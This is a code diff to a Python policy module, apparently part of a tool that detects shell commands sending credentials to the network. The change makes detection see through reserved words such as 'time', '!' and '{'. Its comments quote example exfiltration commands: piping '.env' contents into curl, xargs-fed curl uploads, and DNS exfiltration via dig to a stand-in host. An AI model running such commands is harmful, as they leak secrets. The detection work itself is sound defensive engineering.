@@ -17,7 +17,7 @@ from itertools import pairwise
 from sluice.policies._containers import container_exec
 from sluice.policies._leaks import leaked_secret, may_hold_secret
 from sluice.policies._runners import found_commands, ssh_command
-from sluice.policies._shell import Command, basename, parse, with_next
+from sluice.policies._shell import Command, basename, parse, stated, with_next
 from sluice.policies._targets import is_credential, on_remote, resolve
 from sluice.policies._wrappers import (
     HTTP_CLIENTS,
@@ -183,11 +183,12 @@ class Pipeline:
         if command.words[:1] == ("}",):
             self.close_group()
             return None
-        if command.after == "(" or command.words[:1] == ("{",):
+        reserved = command.words[: len(command.words) - len(stated(command.words))]
+        if command.after == "(" or "{" in reserved:  # `{ cat …`, `then { cat …`
             self.grouping, self.group = True, None
         words, _ = unwrap(command.words)
         read = _secret_read_by(command)
-        if read is None and self.printed and _prints_substitution(command.words):
+        if read is None and self.printed and _prints_substitution(stated(command.words)):
             read = self.printed  # echo "{\"text\": \"$(cat .env)\"}" | curl -d @- …
         if self.grouping:
             self.group = self.group or read
@@ -233,7 +234,7 @@ class Pipeline:
             return pushed
         if self.assigned and basename(words[0]) in _SENDERS and (sent := self._assigned(words)):
             return f"Sends {sent} to the network ({basename(words[0])})"
-        if fed := _fed_by_xargs(command.words, words):  # xargs -I{} curl -F f=@{} <<< "$F"
+        if fed := _fed_by_xargs(stated(command.words), words):  # xargs -I{} curl -F f=@{} <<< "$F"
             words = fed
         if self.paths and basename(words[0]) in _SENDERS:  # curl --data-binary "@$K"
             words = [_VARIABLE_REFERENCE.sub(self._path_of, w) for w in words]
@@ -264,8 +265,8 @@ class Pipeline:
                     if listed is not None and len(self.paths) < _HEADERS:
                         self.paths[name] = listed
                 substituted = listed = None
-            if command.words[:2] == ("while", "read"):
-                variables += read_variables(command.words[2:])
+            if (loop := _while_read(command.words)) is not None:
+                variables += loop
             elif command.after == "<(" and command.feeds == "done":
                 secret = secret or _secret_read_by(command)
             if command.after in ("$(", "`") and command.feeds in _PRINTERS:
@@ -277,12 +278,12 @@ class Pipeline:
         """Bind the variables of a loop over a credential's text; say what a sender given
         one of them (``dig +short $l.x.example``) sends. ``words``: the command unwrapped
         (``do`` and wrappers gone)."""
-        given = command.words
+        given = stated(command.words)  # `time for l in …`
         if given[:1] == ("for",) and len(given) > 2 and self.listed:
             self.carriers[given[1]] = self.listed
             self.listed = None
-        elif given[:2] == ("while", "read") and stdin and len(self.carriers) < _HEADERS:
-            for variable in read_variables(given[2:]):
+        elif stdin and len(self.carriers) < _HEADERS and (loop := _while_read(command.words)):
+            for variable in loop:
                 self.carriers[variable] = stdin
         if not self.carriers:
             return None
@@ -390,6 +391,15 @@ _PRINTERS = frozenset({"echo", "printf"})
 _POWERSHELL_LISTS = frozenset({"get-childitem", "gci", "dir", "ls", "get-item"})
 
 
+def _while_read(words: tuple[str, ...]) -> list[str] | None:
+    """The variables ``while read l`` binds, after reserved words too (``! while read l``,
+    ``time while read l``); None for no such loop."""
+    given = stated(words)
+    if given[:1] != ("read",) or "while" not in words[: len(words) - len(given)]:
+        return None
+    return read_variables(given[1:])
+
+
 def _prints_substitution(words: Sequence[str]) -> bool:
     """Whether ``words`` print what a substitution gave them (``echo "$(cat .env)"``)."""
     return bool(words) and words[0] in _PRINTERS and any("$(" in w or "`" in w for w in words)
@@ -488,8 +498,9 @@ def _without_excluded(args: list[str]) -> list[str]:
 
 def _secret_read_by(command: Command) -> str | None:
     """The credential file (or ``the environment``) whose content ``command`` prints."""
-    first = basename(command.words[0]) if command.words else ""
-    rest = command.words[1:]
+    given = stated(command.words)  # `{ env`, `then printenv`, `time set`
+    first = basename(given[0]) if given else ""
+    rest = given[1:]
     if first in ("env", "printenv") and not any(
         not w.startswith("-") and "=" not in w for w in rest
     ):
